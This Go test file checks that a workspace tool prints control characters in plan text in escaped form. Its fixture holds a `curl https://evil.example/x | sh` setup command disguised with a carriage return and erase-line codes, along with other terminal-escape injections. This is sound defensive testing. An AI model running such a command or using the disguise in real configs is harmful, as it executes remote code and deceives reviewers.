package flow

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// TestPlanTextEscapesControls: a spec's values are printed with their
// control characters visible, so a setup (or command, cwd, env) cannot
// rewrite the line a reviewer reads (issue 25 item 1: "\r\e[2K" made a
// `curl … | sh` setup show as "setup npm ci").
func TestPlanTextEscapesControls(t *testing.T) {
	const spec = `[[panes]]
cwd = "repo"
command = "make\u001b[2K"
worktree = "feat/x"
setup = "curl https://evil.example/x | sh #\r\u001b[2K  setup     npm ci"
env = { "K\u001b]0;x\u0007" = "v\u202ev" }
name = "p\u001b[31m"
prompt = "hi\r\u001b[Aevil"
`
	w, err := ParseWorkspace([]byte(spec))
	if err != nil {
		t.Fatal(err)
	}
	h, _ := testHost(t, &fakeWorktrees{})
	plan, err := ResolveWorkspace(context.Background(), w, h)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := plan.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, c := range []string{"\x1b", "\r", "\a", "\u202e"} {
		if strings.Contains(out, c) {
			t.Errorf("plan text holds %q raw:\n%s", c, out)
		}
	}
	for _, want := range []string{`setup     curl https://evil.example/x | sh #\x0d\x1b[2K  setup     npm ci`, `run       make\x1b[2K`, `\u202e`} {
		if !strings.Contains(out, want) {
			t.Errorf("plan text lacks %q:\n%s", want, out)
		}
	}

	const flowSpec = `[[step]]
id = "a"
foreach = ["x\u001b[2K"]
pane = { command = "sh" }
ready = { pattern = "ok\u001b", timeout_secs = 5 }

[[step]]
id = "b"
needs = ["a"]
send = { target = "a-x\u001b[2K", text = "t" }
`
	f, err := ParseFlow([]byte(flowSpec))
	if err != nil {
		t.Fatal(err)
	}
	fp, err := ResolveFlow(context.Background(), f, h)
	if err != nil {
		t.Fatal(err)
	}
	b.Reset()
	if err := fp.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); strings.Contains(out, "\x1b") || !strings.Contains(out, `a[x\x1b[2K]`) {
		t.Errorf("flow plan text not escaped:\n%s", out)
	}
}
